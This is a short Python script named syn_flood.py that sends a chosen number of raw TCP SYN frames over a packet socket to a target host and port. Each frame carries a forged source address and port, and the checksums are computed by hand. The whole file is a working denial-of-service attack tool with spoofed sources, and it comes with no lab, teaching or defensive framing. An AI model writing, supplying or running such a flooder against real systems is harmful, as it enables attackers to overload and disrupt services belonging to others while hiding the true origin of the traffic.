"""SYNs from addresses that are not there: syn_flood.py DEVICE TO PORT COUNT.

Frames go out by a packet socket, with right checksums; each has another source address and port."""
import socket
import struct
import sys
import time

device, to, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])


def mac_of(address):
    for _ in range(50):
        for line in open("/proc/net/arp"):
            fields = line.split()
            if fields[0] == address and fields[2] != "0x0":
                return bytes.fromhex(fields[3].replace(":", ""))
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"", (address, 9))
        time.sleep(0.1)
    raise SystemExit("no hardware address of " + address)


def fold(n):
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def words(data):
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((device, 0))
# Not our own address: answers have to go past it.
ethernet = mac_of(to) + s.getsockname()[4] + b"\x08\x00"
target = socket.inet_aton(to)
options = bytes.fromhex("020405b40402080a00000001000000000103030a")
ip_fixed = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(options), 1, 0x4000, 64, 6, 0)
ip_sum = words(ip_fixed) + words(target)
tcp_sum = words(target) + 6 + 20 + len(options) + port + (0xA002 if len(options) == 20 else 0) + 65535 + words(options)
for n in range(count):
    source = 0x0B000000 + n * 7
    high, low = source >> 16, source & 0xFFFF
    sport = 1024 + n % 60000
    seq = n * 2654435761 & 0xFFFFFFFF
    ip = struct.pack("!BBHHHBBHI", 0x45, 0, 60, 1, 0x4000, 64, 6, fold(ip_sum + high + low), source) + target
    check = fold(tcp_sum + high + low + sport + (seq >> 16) + (seq & 0xFFFF))
    tcp = struct.pack("!HHIIHHHH", sport, port, seq, 0, 0xA002, 65535, check, 0)
    s.send(ethernet + ip + tcp + options)
print("sent", count)
